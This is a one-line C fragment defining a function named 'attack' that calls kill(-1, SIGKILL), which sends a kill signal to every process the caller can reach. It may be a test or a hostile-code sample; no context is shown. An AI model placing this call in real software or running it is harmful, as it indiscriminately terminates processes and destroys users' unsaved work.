static void attack(void) { kill(-1, SIGKILL); }
